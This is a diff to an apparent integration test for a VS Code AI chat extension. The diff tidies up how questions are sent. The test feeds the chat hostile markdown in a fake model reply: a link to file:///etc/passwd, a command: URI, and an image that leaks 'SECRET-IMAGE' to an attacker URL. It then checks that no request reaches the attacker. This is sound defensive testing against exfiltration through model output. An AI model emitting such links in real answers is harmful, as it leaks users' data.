@@ -6,8 +6,8 @@ import * as http from 'node:http';
 import type { AddressInfo } from 'node:net';
 import * as vscode from 'vscode';
 import { textReply, type OpenAITestServer } from '../support/openaiTestServer';
-import { newChat, setUpComet } from './helpers';
-import { click, evaluate, waitFor, waitForLastAssistant } from './webview';
+import { askComet, newChat, setUpComet } from './helpers';
+import { click, evaluate, waitFor } from './webview';
 
 describe('links in answers in a real VS Code', () => {
   let server: OpenAITestServer;
@@ -47,8 +47,7 @@ describe('links in answers in a real VS Code', () => {
       `Or [this file](file:///etc/passwd), [a command](command:workbench.action.reload).\n\n`,
       `![diagram](${attackerUrl}/pixel.png?d=SECRET-IMAGE)\n`,
     ]));
-    await vscode.commands.executeCommand('comet.ask', 'Where are the docs?');
-    await waitForLastAssistant('done');
+    await askComet('Where are the docs?');
     const shown = await evaluate<{ links: Array<[string, string | null]>; hrefs: number; text: string }>(`(() => {
       const body = Array.from(document.querySelectorAll('[data-role=assistant]')).at(-1);
       return {
@@ -69,8 +68,7 @@ describe('links in answers in a real VS Code', () => {
     await click('[data-role=assistant] .markdown p:nth-of-type(2)');
     // One more round trip through the host, so a request the clicks might have started has had time to arrive.
     server.enqueue(textReply(['ok']));
-    await vscode.commands.executeCommand('comet.ask', 'thanks');
-    await waitForLastAssistant('done');
+    await askComet('thanks');
     assert.deepEqual(opened, [leak]);
     assert.deepEqual(attackerRequests, []);
   });
